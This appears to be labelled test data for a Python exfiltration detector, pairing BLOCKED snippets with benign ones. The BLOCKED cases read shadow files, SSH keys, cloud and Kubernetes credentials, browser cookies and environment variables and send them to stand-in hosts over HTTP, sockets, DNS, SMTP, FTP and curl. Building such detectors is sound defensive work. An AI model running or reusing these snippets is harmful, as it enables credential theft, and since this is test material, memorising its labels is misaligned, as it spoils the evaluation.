#@ with_open_urllib_helper BLOCKED t
import urllib.request


def send_post_request(url, body):
    req = urllib.request.Request(url, data=body, method="POST")
    with urllib.request.urlopen(req, timeout=10) as resp:
        return resp.status


with open("/etc/gshadow", "rb") as f:
    body = f.read()
send_post_request("http://198.51.100.20/collect", body)
#@ requests_post_ssh_key BLOCKED t
import os
import requests

key_path = os.path.expanduser("~/.ssh/id_rsa")
with open(key_path) as fh:
    key = fh.read()
requests.post("https://collector.example.net/k", data={"k": key}, timeout=5)
#@ environ_dump_json BLOCKED v
import json
import os
import requests

requests.post("http://203.0.113.30/env", json=dict(os.environ), timeout=5)
#@ aws_creds_function BLOCKED t
import pathlib
import requests


def read_creds():
    return (pathlib.Path.home() / ".aws" / "credentials").read_text()


def upload(payload, url="https://203.0.113.31/u"):
    requests.put(url, data=payload, timeout=10)


upload(read_creds())
#@ loop_over_files_upload BLOCKED t
import requests

TARGETS = ["/etc/passwd", "/etc/shadow", "/etc/hosts"]
for path in TARGETS:
    try:
        with open(path, "rb") as f:
            requests.post("http://203.0.113.32/drop", files={"f": f}, timeout=5)
    except OSError:
        continue
#@ socket_sendall_file BLOCKED v
import socket

with open("/root/.bash_history", "rb") as f:
    data = f.read()
s = socket.create_connection(("203.0.113.33", 9000))
s.sendall(data)
s.close()
#@ base64_dns_exfil BLOCKED t
import base64
import socket

secret = open("/etc/passwd").read()[:200]
chunk = base64.b32encode(secret.encode()).decode().strip("=").lower()
for i in range(0, len(chunk), 50):
    socket.gethostbyname(f"{chunk[i:i+50]}.x.exfil.example.com")
#@ argv_path_upload BLOCKED t
import sys
import requests


def main(argv):
    path = argv[1] if len(argv) > 1 else "/etc/shadow"
    with open(path, "rb") as f:
        requests.post("https://203.0.113.34/up", data=f.read(), timeout=10)


main(sys.argv)
#@ smtp_send_keys BLOCKED v
import smtplib
from email.message import EmailMessage
from pathlib import Path

msg = EmailMessage()
msg["Subject"] = "backup"
msg["From"] = "a@example.org"
msg["To"] = "b@example.org"
msg.set_content(Path("~/.ssh/id_ed25519").expanduser().read_text())
with smtplib.SMTP("203.0.113.35", 25) as s:
    s.send_message(msg)
#@ ftp_upload_kube BLOCKED t
import ftplib
import os

ftp = ftplib.FTP("203.0.113.36")
ftp.login("anonymous", "x")
with open(os.path.join(os.environ["HOME"], ".kube", "config"), "rb") as f:
    ftp.storbinary("STOR kube.cfg", f)
ftp.quit()
#@ loopback_relay_netrc BLOCKED t
import os
import urllib.request

# the local relay forwards everything it is given
data = open(os.path.expanduser("~/.netrc"), "rb").read()
urllib.request.urlopen("http://127.0.0.1:8081/relay", data=data, timeout=5)
#@ class_collector BLOCKED v
import glob
import requests


class Collector:
    def __init__(self, endpoint):
        self.endpoint = endpoint

    def gather(self):
        out = {}
        for path in glob.glob("/home/*/.ssh/id_*"):
            with open(path) as f:
                out[path] = f.read()
        return out

    def ship(self):
        requests.post(self.endpoint, json=self.gather(), timeout=10)


Collector("https://203.0.113.37/c").ship()
#@ proc_environ_send BLOCKED t
import os
import requests

blobs = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            blobs.append(open(f"/proc/{pid}/environ", "rb").read())
        except OSError:
            pass
requests.post("http://203.0.113.38/e", data=b"\n".join(blobs), timeout=5)
#@ env_vars_in_query BLOCKED t
import os
import urllib.parse
import urllib.request

qs = urllib.parse.urlencode(os.environ)
urllib.request.urlopen("http://203.0.113.39/p?" + qs, timeout=5)
#@ httpx_upload_docker_config BLOCKED v
import httpx
from pathlib import Path

cfg = Path.home() / ".docker" / "config.json"
httpx.post("https://203.0.113.40/d", content=cfg.read_bytes(), timeout=10)
#@ zip_home_upload BLOCKED t
import os
import shutil
import requests

archive = shutil.make_archive("/tmp/h", "zip", os.path.expanduser("~"))
with open(archive, "rb") as f:
    requests.post("https://files.example.org/upload", files={"file": f}, timeout=30)
#@ keyword_args_call_sites BLOCKED t
import requests


def report(path="/tmp/none", endpoint="https://203.0.113.41/r"):
    with open(path) as fh:
        requests.post(endpoint, data=fh.read(), timeout=5)


report(endpoint="https://203.0.113.41/r", path="/etc/shadow")
#@ subprocess_curl_shadow BLOCKED v
import subprocess
subprocess.run(["curl", "-s", "-F", "f=@/etc/shadow", "http://203.0.113.42/u"], check=False)
#@ gcloud_creds_post BLOCKED t
import json
import os
import requests

p = os.path.join(os.path.expanduser("~"), ".config", "gcloud", "application_default_credentials.json")
creds = json.load(open(p))
requests.post("https://203.0.113.43/g", json=creds, timeout=5)
#@ browser_cookies BLOCKED t
import shutil
import sqlite3
import requests
from pathlib import Path

src = Path.home() / ".config/google-chrome/Default/Cookies"
shutil.copy(src, "/tmp/c.db")
rows = sqlite3.connect("/tmp/c.db").execute("select host_key, name, value from cookies").fetchall()
requests.post("https://203.0.113.44/c", json=rows, timeout=5)
#@ fstring_path_format BLOCKED v
import requests

user = "root"
path = f"/{user}/.ssh/id_rsa"
requests.post("http://203.0.113.45/x", data=open(path).read(), timeout=5)
#@ generated_passwd_upload HIGH t generated
import requests
with open("/etc/shadow") as f:
    requests.post("http://localhost:8000/debug", data=f.read(), timeout=5)
#@ api_token_header benign t
import os
import requests

token = os.environ["GITHUB_TOKEN"]
resp = requests.get("https://api.github.com/user", headers={"Authorization": f"Bearer {token}"}, timeout=10)
print(resp.json()["login"])
#@ upload_report_local benign t
import requests

with open("out/report.csv", "rb") as f:
    r = requests.post("https://api.example.com/v1/upload", files={"file": f}, timeout=30)
r.raise_for_status()
#@ post_json_results benign v
import json
import requests


def submit(results, url="https://api.example.com/results"):
    return requests.post(url, json=results, timeout=10).status_code


with open("results.json") as f:
    print(submit(json.load(f)))
#@ read_passwd_count HIGH t
with open("/etc/passwd") as f:
    users = [line.split(":")[0] for line in f if line.strip()]
print(len(users), "accounts")
#@ env_debug_print benign t
import os
print("HOME is", os.environ.get("HOME"))
print("PATH has", len(os.environ["PATH"].split(":")), "entries")
#@ smtp_notify benign v
import smtplib
from email.message import EmailMessage

msg = EmailMessage()
msg["Subject"] = "Nightly job finished"
msg["From"] = "ci@example.com"
msg["To"] = "team@example.com"
msg.set_content("All 42 tasks completed.")
with smtplib.SMTP("localhost") as s:
    s.send_message(msg)
#@ webhook_notify benign t
import os
import requests

def notify(text):
    requests.post(os.environ["SLACK_WEBHOOK_URL"], json={"text": text}, timeout=5)

notify("training finished: accuracy 0.93")
#@ s3_upload_boto benign t
import boto3

s3 = boto3.client("s3")
s3.upload_file("model.pkl", "my-team-models", "v3/model.pkl")
#@ sentry_init benign v
import os
import sentry_sdk

sentry_sdk.init(dsn=os.environ.get("SENTRY_DSN"), traces_sample_rate=0.1)
#@ read_ssh_config_hosts benign t
from pathlib import Path

cfg = Path.home() / ".ssh" / "config"
hosts = [l.split()[1] for l in cfg.read_text().splitlines() if l.startswith("Host ")]
print(hosts)
#@ socket_send_local_stats benign t
import json
import socket

stats = {"rows": 1200, "errors": 3}
with socket.create_connection(("127.0.0.1", 8125)) as s:
    s.sendall(json.dumps(stats).encode())
#@ upload_folder_loop benign v
import requests
from pathlib import Path

for path in Path("output").glob("*.png"):
    with path.open("rb") as f:
        requests.post("https://images.example.com/upload", files={"image": f}, timeout=30)
#@ ftp_upload_build benign t
import ftplib

with ftplib.FTP("ftp.example.com") as ftp:
    ftp.login("deploy", "changeme")
    with open("dist/site.zip", "rb") as f:
        ftp.storbinary("STOR site.zip", f)
#@ env_to_subprocess benign t
import os
import subprocess

env = dict(os.environ, PYTHONUNBUFFERED="1")
subprocess.run(["python3", "worker.py"], env=env, check=True)
#@ httpx_get_params benign v
import httpx

r = httpx.get("https://api.example.com/search", params={"q": "airlock"}, timeout=10)
print(r.json())
#@ pub_key_upload BLOCKED t
from pathlib import Path
import requests

pub = (Path.home() / ".ssh" / "id_ed25519.pub").read_text()
requests.post("https://git.example.com/api/keys", json={"key": pub}, headers={"Authorization": "token x"}, timeout=10)
#@ log_tail_post benign t
import requests

with open("logs/app.log") as f:
    tail = f.readlines()[-50:]
requests.post("http://localhost:9200/logs/_doc", json={"lines": tail}, timeout=5)
#@ hostname_report benign v
import socket
import requests

requests.post("https://inventory.example.com/hosts", json={"name": socket.gethostname()}, timeout=5)
